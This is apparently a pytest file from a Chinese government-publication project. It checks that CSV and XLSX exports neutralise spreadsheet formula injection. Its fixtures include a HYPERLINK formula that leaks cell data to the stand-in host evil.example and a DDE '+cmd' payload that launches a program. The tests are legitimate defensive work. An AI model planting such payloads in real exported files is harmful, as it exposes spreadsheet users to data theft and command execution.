"""CSV and XLSX exports never hand a spreadsheet a formula from document or unit text."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from gongkai.exports.domain.cells import cell_text


@pytest.mark.parametrize("text, expected", [
    ('=HYPERLINK("http://evil.example/?x="&A1,"点击")', '\'=HYPERLINK("http://evil.example/?x="&A1,"点击")'),
    ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
    ("-2+3", "'-2+3"),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("\t=1+1", "'\t=1+1"),
    ("＝1+1", "'＝1+1"),
    ("关于印发《武汉市政务公开办法》的通知", "关于印发《武汉市政务公开办法》的通知"),
    ("武政办〔2024〕12号", "武政办〔2024〕12号"),
    ("", ""),
])
def test_cell_text_neutralises_formula_prefixes(text, expected):
    assert cell_text(text) == expected


def test_cell_text_leaves_numbers_alone():
    assert cell_text(-3) == -3 and cell_text(None) is None


@pytest.mark.django_db
def test_csv_export_neutralises_a_formula_title(client, publish_document):
    publish_document(title='=HYPERLINK("http://evil.example","查看")', body="正文内容。",
                     category="+cmd|' /C calc'!A0")
    response = client.get("/api/v1/export/documents.csv")
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[1][1] == '\'=HYPERLINK("http://evil.example","查看")'
    assert rows[1][11] == "'+cmd|' /C calc'!A0"  # 主题分类


def test_scores_xlsx_stores_formula_like_names_as_text():
    from gongkai.exports.xlsx import scores_xlsx_bytes

    result = {"units": [{"group": "=1+1", "rank": 1, "unit": '=HYPERLINK("x")', "total": 90,
                         "vetoed": False, "indicators": []}],
              "groups": [{"group": "=1+1", "units": 1, "mean": 90, "mean_change": None,
                          "ge_90": 1, "ge_90_change": None, "ge_80": 1, "ge_80_change": None}]}
    wb = load_workbook(io.BytesIO(scores_xlsx_bytes(result)))
    cell = wb["得分"]["C2"]
    assert cell.data_type == "s" and cell.value == '=HYPERLINK("x")'
